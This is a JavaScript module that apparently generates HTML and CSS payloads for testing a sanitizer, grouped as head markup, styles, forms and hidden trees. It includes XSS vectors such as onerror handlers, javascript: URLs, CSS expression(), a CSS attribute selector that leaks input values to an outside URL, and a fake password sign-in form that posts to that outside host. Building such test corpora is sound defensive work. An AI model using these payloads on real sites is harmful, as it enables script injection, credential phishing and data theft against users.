/** Markup that changes the document itself: its head, its styles, its forms, hidden trees. */
import { AWAY, pairs, RUN } from './marks.mjs';

const act = `<img src=x onerror=${RUN}>`;

export const heads = () => [
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<meta http-equiv="Refresh" content="0; url=javascript:${RUN}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<meta http-equiv=set-cookie content="a=%N%">`,
  `<meta name=referrer content=unsafe-url>`,
  `<meta charset=utf-7>`,
  `<base href="${AWAY}/">`,
  `<base target=_top>`,
  `<title>%N%</title>`,
  ...[
    'stylesheet',
    'prefetch',
    'preconnect',
    'dns-prefetch',
    'preload as=image',
    'modulepreload',
    'prerender',
    'icon',
    'manifest',
    'import',
    'alternate',
  ].map((rel) => `<link href="${AWAY}" rel=${rel}>`),
  `<html manifest="${AWAY}">`,
  `<?xml-stylesheet href="${AWAY}"?><b id=%N%>words</b>`,
];

const declarations = [
  `background:url(${AWAY})`,
  `background-image:image-set('${AWAY}' 1x)`,
  `list-style:url('${AWAY}')`,
  `content:url(${AWAY})`,
  `cursor:url(${AWAY}),auto`,
  `border-image:url(${AWAY})`,
  `mask:url(${AWAY})`,
  `position:fixed;inset:0;z-index:99999`,
  `width:expression(${RUN})`,
  `behavior:url(${AWAY})`,
  `--x:url(${AWAY});background:var(--x)`,
  `b\\61 ckground:u\\72l(${AWAY})`,
  `animation:spin 1s infinite`,
];

export const styles = () => [
  ...pairs(
    [(css) => `<p style="${css}">words</p>`, (css) => `<style>p{${css}}</style><p>words</p>`],
    declarations,
    (made, css) => made(css),
  ),
  `<style>@import url(${AWAY});</style>`,
  `<style>@font-face{font-family:a;src:url(${AWAY})}p{font-family:a}</style>`,
  `<style>input[value^=a]{background:url(${AWAY})}</style>`,
  `<style media=all onload=${RUN}></style>`,
  `<style></style${act}`,
  `<p class="%N% root">words</p>`,
  `<font color=red face="url(${AWAY})" size=9>words</font>`,
];

export const forms = () => [
  `<form action="${AWAY}" method=post><input name=password type=password><button>Sign in</button></form>`,
  `<form id=f%N%></form><button form=f%N% formaction="${AWAY}">words</button>`,
  `<input form=checkout name=total value=0>`,
  `<button type=submit formaction="javascript:${RUN}">words</button>`,
  `<button popovertarget=root>words</button>`,
  `<button commandfor=root command=close>words</button>`,
  `<isindex action="javascript:${RUN}" prompt=words>`,
  `<keygen autofocus onfocus=${RUN}>`,
  `<label for=email>words</label>`,
  `<fieldset form=checkout><legend>${act}</legend></fieldset>`,
  `<datalist id=emails><option value=a></datalist>`,
  `<output form=checkout onclick=${RUN}>words</output>`,
  `<meter onclick=${RUN} value=1></meter>`,
  `<dialog open><form method=dialog><button>words</button></form></dialog>`,
];

export const hiddenTrees = () => [
  ...['', ' shadowrootmode=open', ' shadowrootmode=closed', ' shadowroot=open'].flatMap((mode) => [
    `<div><template${mode}>${act}</template></div>`,
    `<div><template${mode}><script>${RUN}</script></template></div>`,
    `<div><template${mode}><style>:host{position:fixed}</style></template></div>`,
  ]),
  `<slot name=a>${act}</slot>`,
  `<button is=my-button onclick=${RUN}>words</button>`,
  `<p slot=a part=b exportparts=c>words</p>`,
  `<noscript>${act}</noscript>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=${RUN}&gt;" sandbox=allow-scripts></iframe>`,
  `<object type="text/html" data="data:text/html,${RUN}">${act}</object>`,
  `<applet code=a archive="${AWAY}">${act}</applet>`,
  `<portal src="${AWAY}"></portal>`,
  `<fencedframe></fencedframe>`,
  `<p role=alert aria-live=assertive aria-label="Your session ended">words</p>`,
  `<p accesskey=s tabindex=1 contenteditable draggable=true>words</p>`,
  `<p data-emotion="css" data-page=home data-slot=a>words</p>`,
];
